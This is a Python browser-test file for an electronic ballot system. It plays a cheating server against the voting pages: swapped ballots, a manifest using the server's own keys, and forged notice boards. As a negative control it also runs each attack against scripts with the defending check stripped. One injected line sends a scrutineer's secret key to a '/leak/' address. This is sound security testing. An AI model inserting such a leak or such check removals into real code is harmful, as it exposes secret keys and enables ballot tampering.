"""What an active server did with every script unchanged, and that it no longer can.

The server in between cheats: it answers a voter or a scrutineer with something of its own, and it
can do the arithmetic of the ballot as well as anybody. Each attack is played twice: against the
scripts as they are, and, `believing`, against scripts in which the one check that ends it was taken
out, as the pages were before: there the attack succeeds, so the test would see one that did.
"""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from playwright.sync_api import Browser, BrowserContext, Page, Request, Route, expect

from courts.ballots import scrutineer_file
from courts.ballots.offline_file import OfflineFile
from courts.ballots.protocol import board
from courts.ballots.protocol.ballot import seal, tracker_of
from courts.ballots.protocol.bits import weights
from courts.ballots.protocol.canonical import canonical, parse
from courts.ballots.protocol.group import G, P, Q
from courts.ballots.protocol.keys import card, make_secret, prove_key
from courts.ballots.protocol.manifest import Manifest, read_manifest
from courts.ballots.services.casting import CastReceipt
from courts.ballots.services.casting import cast as cast_ballot
from courts.ballots.services.held_rounds import manifest_of
from courts.ballots.views import api
from courts.models import BallotRound, QualityYear, SealedBallot, User
from courts.setup.services.ballot_samples import sealed_for
from tests.browser.ballot_steps import (
    PATIENCE,
    address,
    choices,
    mark,
    offline_page,
    pass_gate,
    recognise,
    saved,
    tracker_in,
)
from tests.courts.ballot_fixtures import Vote, people
from tests.kept_rows import put_back

pytestmark = pytest.mark.django_db(transaction=True)

LogIn = Callable[[User], None]
LEADERS = 3
_KEYS: dict[int, int] = {}

# The check that ends an attack, and what stood in its place before.
SWAPPED = (
    "ballot-booth.js",
    "const isOurs = receipt.tracker === tracker && receipt.fingerprint === fingerprint;",
    """const isOurs = true;
    showTracker(document.querySelector("main"), receipt.tracker);
    keepTracker(fingerprint, voter, receipt.tracker);""",
)
OFFERED = (
    "ballot-check.js",
    "const kept = keptTracker(board.fingerprint, voter);",
    "const kept = board.trackers[0];",
)
UNSEEN = (
    "ballot-vote.js",
    'return recognise(one("recognise"), fingerprint, tell).then(toMarks);',
    "return Promise.resolve().then(toMarks);",
)
UNTYPED = (
    ("ballot-gate.js", 'return typed.length < 64 ? "kappa-short" : "kappa-other";', 'return "";'),
    ("ballot-gate.js", 'return trackers.includes(typed) ? "" : "voter-none";', 'return "";'),
)


@pytest.fixture(params=[False, True], ids=["as-built", "believing"])
def believing(request: pytest.FixtureRequest) -> bool:
    return request.param


@pytest.fixture(autouse=True)
def _patient(page: Page) -> None:
    page.set_default_timeout(PATIENCE)
    expect.set_options(timeout=PATIENCE)


@pytest.fixture
def vote(year: QualityYear) -> Vote:
    """A round in which voting is going on, made once."""

    def opened() -> None:
        _KEYS.update(people(year, leaders=LEADERS).opened().keys)

    # The groups come with the people, but for those that come with the year's sides: others of the
    # migrations are there in the first test alone.
    Group.objects.filter(side_roles=None).delete()
    put_back("attacked-round", opened)
    names = [f"leader{n}" for n in range(LEADERS)]
    return Vote(
        year=year,
        office=User.objects.get(username="office"),
        leaders=[User.objects.get(username=name) for name in names],
        holders=[User.objects.get(username=f"holder{n}") for n in range(2)],
        row=BallotRound.objects.get(),
        keys=_KEYS,
    ).fresh()


def weakened(page: Page, *changes: tuple[str, str, str]) -> None:
    """Serve scripts in which something else stands: the negative control."""

    def served(route: Route) -> None:
        answer = route.fetch()
        text = answer.text()
        for name, old, new in changes:
            if route.request.url.endswith(name):
                assert old in text
                text = text.replace(old, new)
        route.fulfill(response=answer, body=text)

    for name in {name for name, _old, _new in changes}:
        page.route(f"**/{name}", served)


def caught(page: Page, address: str) -> list[str]:
    """What is sent to an address; nothing is answered."""
    sent: list[str] = []

    def keep(route: Route) -> None:
        sent.append(route.request.post_data or "")
        route.abort()

    page.route(address, keep)
    return sent


# --- One voter's ballot is swapped ---


def swap(monkeypatch: pytest.MonkeyPatch) -> None:
    """Put a ballot of the server's own, nought and three units, in the place of what was sent."""

    def swapped(*, user: User, ballot_round: BallotRound, body: bytes) -> CastReceipt:
        own = sealed_for(user, ballot_round, (0, 3))
        return cast_ballot(user=user, ballot_round=ballot_round, body=own)

    monkeypatch.setattr(api, "cast_ballot", swapped)


def test_a_swapped_ballot_and_a_false_receipt(
    page: Page, log_in: LogIn, vote: Vote, monkeypatch: pytest.MonkeyPatch, believing: bool
) -> None:
    """The booth refuses the receipt of another ballot; the check page finds the own one missing."""
    voter = vote.leaders[0]
    if believing:
        weakened(page, SWAPPED, OFFERED)
    vote.cast(1, (1, 1))
    vote.cast(2, (2, 2))
    swap(monkeypatch)
    log_in(voter)
    page.goto(address(vote, "booth/"))
    recognise(page, vote.row.fingerprint)
    mark(page, ("12", "0"))
    own = tracker_in(page.locator("[data-sealed]"))
    page.get_by_role("button", name="投出这张选票").click()
    stored = (
        SealedBallot.objects.filter(round=vote.row)
        .exclude(tracker="")
        .values_list("tracker", flat=True)
    )
    if believing:
        expect(page.get_by_role("heading", name="投票成功")).to_be_visible()
        shown = tracker_in(page.locator("[data-receipt]"))
        assert shown != own
        assert shown in stored
    else:
        expect(page.get_by_role("alert").get_by_text("服务器的回执不对")).to_be_visible()
        assert tracker_in(page.locator("[data-alarm]")) == own
        expect(page.locator("[data-receipt]")).to_be_hidden()
    assert own not in stored
    # The round is closed all the same, and its closing hash is put on the notice board.
    vote.closed()
    page.goto(address(vote, "check/"))
    assert not [one for one in stored if one in page.content()]
    recognise(page, vote.row.close_hash)
    if not believing:
        kept = "".join(page.locator("[data-kept-tracker]").inner_text().split())
        assert (kept, page.locator("[data-kept-name]").inner_text()) == (own, voter.name)
    page.get_by_role("button", name="一样，查这一张").click()
    status, confirm = page.locator("[data-check-status]"), page.get_by_role("button", name="已核对")
    if believing:
        expect(status).to_contain_text("已计入")
        expect(confirm).to_be_visible()
        return
    expect(status).to_contain_text("公示板上没有您的选票")
    expect(page.locator("[data-wrong]")).to_be_visible()
    expect(page.get_by_label("哪里不对")).to_be_visible()
    expect(confirm).to_be_hidden()
    # Typed from paper it is the same, and no list to choose from is shown.
    page.get_by_role("button", name="不一样，照纸上输入").click()
    page.locator("[data-tracker-in]").fill(own.upper())
    page.get_by_role("button", name="查找").click()
    expect(status).to_contain_text("公示板上没有您的选票")
    expect(page.locator("[data-list]")).to_be_hidden()
    # Nor does it help to say that a voter who did not vote did.
    page.get_by_role("button", name="我没有投票").click()
    expect(status).to_contain_text("有人替您投了票")
    expect(confirm).to_be_hidden()


# --- One voter gets a manifest with keys of the server's own ---


@dataclass
class OwnKeys:
    """A manifest whose scrutineers are all the server."""

    manifest: Manifest
    secret: int

    def marks_of(self, body: str) -> list[int]:
        """What was sealed to these keys, in units."""
        found = []
        for bits in json.loads(body)["t"]:
            opened = []
            for a, b, *_proof in bits:
                left = int(b, 16) * pow(int(a, 16), Q - self.secret % Q, P) % P
                opened.append({1: 0, G: 1}[left])
            worth = weights(self.manifest.unit_max)
            found.append(sum(bit * weight for bit, weight in zip(opened, worth, strict=True)))
        return found


def own_keys(vote: Vote) -> OwnKeys:
    data = parse(vote.row.manifest.encode())
    secrets = [make_secret() for _one in data["trustees"]]
    for trustee, secret in zip(data["trustees"], secrets, strict=True):
        trustee.update(prove_key(secret, data["id"], trustee["name"]).wire)
    return OwnKeys(read_manifest(data), sum(secrets))


def test_a_manifest_with_keys_of_the_servers_own(
    page: Page, log_in: LogIn, vote: Vote, believing: bool
) -> None:
    """What is on the notice board is not among the four, so no mark is ever asked for."""
    if believing:
        weakened(page, UNSEEN)
    own = own_keys(vote)
    body = canonical(own.manifest.wire).decode()
    page.route("**/manifest.json", lambda route: route.fulfill(body=body))
    sent = caught(page, "**/cast.json")
    log_in(vote.leaders[0])
    page.goto(address(vote, "booth/"))
    if believing:
        mark(page, ("12", "4"))
        page.get_by_role("button", name="投出这张选票").click()
        expect(page.locator("[data-booth] > [data-status]")).to_contain_text("没有连上服务器")
        # The marks are read: 12 and 4 points are 3 and 1 units.
        assert own.marks_of(sent[0]) == [3, 1]
        return
    found = choices(page)
    assert vote.row.fingerprint not in found
    assert own.manifest.fingerprint.hex() in found
    alike_at_the_ends_and_two_by_two(list(found))
    page.get_by_role("button", name="都不一致").click()
    expect(page.locator("[data-recognise-status]")).to_contain_text("不要继续")
    expect(page.locator("[data-four]")).to_be_hidden()
    page.get_by_role("button", name="看错了，再比对一次").click()
    again = choices(page)
    again.pop(own.manifest.fingerprint.hex())
    next(iter(again.values())).click()
    expect(page.locator("[data-recognise-status]")).to_contain_text("不要继续")
    expect(page.locator("[data-marks]")).to_be_hidden()
    assert sent == []


def alike_at_the_ends_and_two_by_two(prints: list[str]) -> None:
    """None of the four stands out: neither where people look first, nor by a vote of the groups."""
    for place in range(0, 64, 4):
        times = sorted(Counter(one[place : place + 4] for one in prints).values())
        assert times == ([4] if place in {0, 4, 56, 60} else [2, 2])


def test_targets_in_another_order(page: Page, log_in: LogIn, vote: Vote) -> None:
    """A page that names the courts otherwise than the manifest asks for no mark."""

    def turned(route: Route) -> None:
        answer = route.fetch()
        one, two = "延吉市人民法院", "图们市人民法院"
        text = answer.text().replace(one, "?").replace(two, one).replace("?", two)
        route.fulfill(response=answer, body=text)

    page.route("**/booth/", turned)
    log_in(vote.leaders[0])
    page.goto(address(vote, "booth/"))
    expect(page.locator("[data-checking]")).to_contain_text("与公告书里的不一样")
    expect(page.locator("[data-booth]")).to_be_hidden()


# --- Scrutineers get a board with one real ballot and made-up ones ---


@dataclass
class Boards:
    """The true board's closing hash and a voter's tracker on it; a false board, and its hash."""

    kappa: str
    name: str
    tracker: str
    false: bytes
    false_kappa: str


@pytest.fixture
def boards(vote: Vote) -> Boards:
    """A closed round, and a board on which all but the last voter's ballot are made up."""
    trackers = [vote.cast(n, (n, 3 - n)).tracker for n in range(LEADERS)]
    vote.closed().confirmed()
    manifest = manifest_of(vote.row)
    real = parse(SealedBallot.objects.get(round=vote.row, tracker=trackers[2]).body.encode())
    ballots = [
        real if slot == real["slot"] else seal(manifest, slot, (0, 0)).wire
        for slot in manifest.slots
    ]
    return Boards(
        vote.row.close_hash, vote.leaders[0].name, trackers[0], *made_up(manifest, ballots)
    )


def made_up(manifest: Manifest, ballots: list[dict]) -> tuple[bytes, str]:
    """A board of these ballots that holds in every verifier, and its closing hash."""
    events = [board.next_event(None, board.OPEN, manifest.fingerprint.hex())]
    trackers = [tracker_of(canonical(one)) for one in ballots]
    for one, tracker in zip(ballots, trackers, strict=True):
        payload = board.ballot_payload(one["slot"], tracker)
        events.append(board.next_event(events[-1], board.BALLOT, payload))
    names = list(manifest.roll)
    kappa = board.closing_hash(manifest.fingerprint, events[-1].hash, names, trackers)
    events.append(board.next_event(events[-1], board.CLOSE, board.close_payload(kappa, names)))
    raw = board.write_board(manifest.wire, ballots, events, names, (), ())
    return raw, kappa.hex()


def gate_holds(page: Page, boards: Boards) -> None:
    """Neither the true closing hash nor, where a false one was posted, a voter opens the gate."""
    key = page.locator("[data-past-signed]")
    pass_gate_until = page.locator("[data-past-kappa]")
    page.locator("[data-kappa-in]").fill(boards.kappa)
    expect(page.locator("[data-kappa-status]")).to_contain_text("与公示表不一致")
    expect(pass_gate_until).to_be_hidden()
    expect(key).to_be_hidden()
    page.locator("[data-kappa-in]").fill(boards.false_kappa)
    expect(pass_gate_until).to_be_visible()
    page.locator("select[data-voter]").select_option(boards.name)
    page.locator("[data-voter-tracker]").fill(boards.tracker)
    expect(page.locator("[data-voter-status]")).to_contain_text("公示板是假的")
    expect(page.locator("[data-past-voter]")).to_be_hidden()
    expect(key).to_be_hidden()


def test_a_false_board_at_the_opening_page(
    page: Page, log_in: LogIn, vote: Vote, boards: Boards, believing: bool
) -> None:
    """The recount says that it holds; the key is asked for only by what is on paper."""
    if believing:
        weakened(page, *UNTYPED)
    page.route("**/board.json", lambda route: route.fulfill(body=boards.false))
    sent = caught(page, "**/partial.json")
    log_in(vote.holders[0])
    page.goto(address(vote, "opening/"))
    expect(page.locator("[data-opening] > [data-status]")).to_contain_text("证明都成立")
    page.locator("[data-fallback] summary").click()
    if not believing:
        gate_holds(page, boards)
        return
    pass_gate(page, boards.kappa, boards.name, boards.tracker, LEADERS)
    digits, check = card(vote.keys[vote.holders[0].pk])
    page.locator("[data-digits-in]").fill(digits)
    page.locator("[data-check-in]").fill(check)
    page.locator("button[data-open]").click()
    expect(page.locator("[data-status-open]")).to_contain_text("没有连上服务器")
    # A part of the opening of the false board: with the others, one real ballot is read.
    assert json.loads(sent[0])["kappa"] == boards.false_kappa


class BelievingFile(OfflineFile):
    """scrutineer.html without the checks that end the attack."""

    def script(self) -> str:
        text = super().script()
        for _name, old, new in UNTYPED:
            assert old in text
            text = text.replace(old, new)
        return text


def test_a_false_board_by_file(
    browser: Browser, tmp_path: Path, vote: Vote, boards: Boards, believing: bool
) -> None:
    """The same on a USB stick, from the server or from another scrutineer."""
    made = scrutineer_file.FILE
    if believing:
        made = BelievingFile(made.template, made.modules, made.page, made.texts, made.unsupported)
    file = tmp_path / "board.json"
    file.write_bytes(boards.false)
    with offline_page(browser, tmp_path, "scrutineer.html", made.source) as page:
        page.get_by_role("button", name="核对公示板、开票").click()
        page.locator("[data-board]").set_input_files(file)
        expect(page.locator("[data-status]")).to_contain_text("公示板校验通过")
        page.locator("[data-who]").select_option(vote.holders[0].name)
        if not believing:
            gate_holds(page, boards)
            return
        pass_gate(page, boards.kappa, boards.name, boards.tracker, LEADERS)
        digits, check = card(vote.keys[vote.holders[0].pk])
        page.locator("[data-digits]").fill(digits)
        page.locator("input[data-check]").fill(check)
        page.locator("button[data-open]").click()
        part = json.loads(saved(page, "save", tmp_path / "partial.json").read_text("utf-8"))
        assert part["kappa"] == boards.false_kappa


# --- One changed line in the key page ---

LEAK = (
    "ballot-keys.js",
    "  const { digits, check } = cardOf(secret);\n",
    """  const { digits, check } = cardOf(secret);
  fetch("/leak/" + digits.split(" ").join(""));
""",
)


def test_a_key_page_that_tells_the_key(
    page: Page,
    browser: Browser,
    context: BrowserContext,
    log_in: LogIn,
    year: QualityYear,
    tmp_path: Path,
) -> None:
    """In the page it does, as the page says beforehand; a key made in the file stays there."""
    vote = people(year, leaders=LEADERS).draft().ask()
    requests: list[Request] = []
    context.on("request", lambda request: requests.append(request))  # noqa: PLW0108
    weakened(page, LEAK)
    log_in(vote.holders[0])
    page.goto(address(vote, "keys/"))
    fallback = page.locator("[data-fallback]")
    expect(fallback.locator("summary")).to_contain_text("没有别的电脑时，才在这个网页里做")
    expect(page.get_by_role("button", name="在网页里制作密钥")).to_be_hidden()
    fallback.locator("summary").click()
    expect(fallback).to_contain_text("就能拿走您的密钥")
    with page.expect_request("**/leak/*") as leak:
        page.get_by_role("button", name="在网页里制作密钥").click()
    digits = "".join(page.locator("[data-digits]").inner_text().split())
    assert leak.value.url.endswith(digits)
    # The same page takes what the file made, and learns nothing from it.
    page.reload()
    requests.clear()
    source = scrutineer_file.FILE.source
    with offline_page(browser, tmp_path, "scrutineer.html", source) as offline:
        offline.locator("[data-to-keys]").click()
        offline.locator("[data-make-id]").fill(vote.row.code)
        offline.locator("[data-make-name]").fill(vote.holders[0].name)
        offline.locator("button[data-make]").click()
        key_file = saved(offline, "save-key", tmp_path / "key.json")
        secret = "".join(offline.locator("[data-card-digits]").inner_text().split())
    page.locator("[data-key-file]").set_input_files(key_file)
    expect(page.locator("[data-keys] > [data-status]")).to_contain_text("公钥已交")
    assert vote.row.scrutineers.get(position=0).public_key is not None
    assert set(json.loads(key_file.read_text("utf-8"))) == {"name", "X", "c", "z"}
    told = [request.url + (request.post_data or "") for request in requests]
    assert not [text for text in told if secret.lstrip("0") in text]
